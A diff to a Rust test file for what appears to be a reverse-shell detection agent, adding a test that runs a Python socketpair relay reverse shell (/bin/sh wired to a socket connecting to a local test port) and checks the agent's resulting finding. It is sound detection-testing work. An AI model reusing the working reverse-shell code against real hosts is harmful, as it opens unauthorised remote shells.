@@ -495,6 +495,47 @@ fn python_popen_pipe_relay_reverse_shell() {
     assert_peer(&f, port);
 }
 
+/// node's `child_process.spawn` gives the shell one end of an AF_UNIX socketpair (libuv), not a
+/// pipe. node is not in the test image: python does the same (socketpair, shell on one end,
+/// connection pumped to the other), which is what the agent sees of a node relay.
+#[test]
+fn socketpair_relay_reverse_shell_like_node_spawn() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-sprelay", |p| {
+        vec![
+            "python3".into(),
+            "-c".into(),
+            format!(
+                "import socket,subprocess,threading\n\
+                 a,b=socket.socketpair()\n\
+                 sh=subprocess.Popen(['/bin/sh'],stdin=b,stdout=b,stderr=b)\n\
+                 b.close()\n\
+                 s=socket.create_connection(('127.0.0.1',{p}))\n\
+                 def up():\n\
+                 \x20while True:\n\
+                 \x20\x20d=s.recv(1024)\n\
+                 \x20\x20if not d: break\n\
+                 \x20\x20a.sendall(d)\n\
+                 threading.Thread(target=up,daemon=True).start()\n\
+                 while True:\n\
+                 \x20d=a.recv(1024)\n\
+                 \x20if not d: break\n\
+                 \x20s.sendall(d)\n\
+                 s.close()\n"
+            ),
+        ]
+    });
+    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
+    assert_eq!(args(&f), ["/bin/sh"]);
+    assert_eq!(
+        f["sourceProperties"]["Binding"],
+        "stdin pipe written by a process holding a remote connection"
+    );
+    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], "python3");
+    assert_container(&f, &c);
+    assert_peer(&f, port);
+}
+
 /// The same relay in perl: IPC::Open2 starts the shell on pipes, a select() loop pumps.
 #[test]
 fn perl_open2_pipe_relay_reverse_shell() {
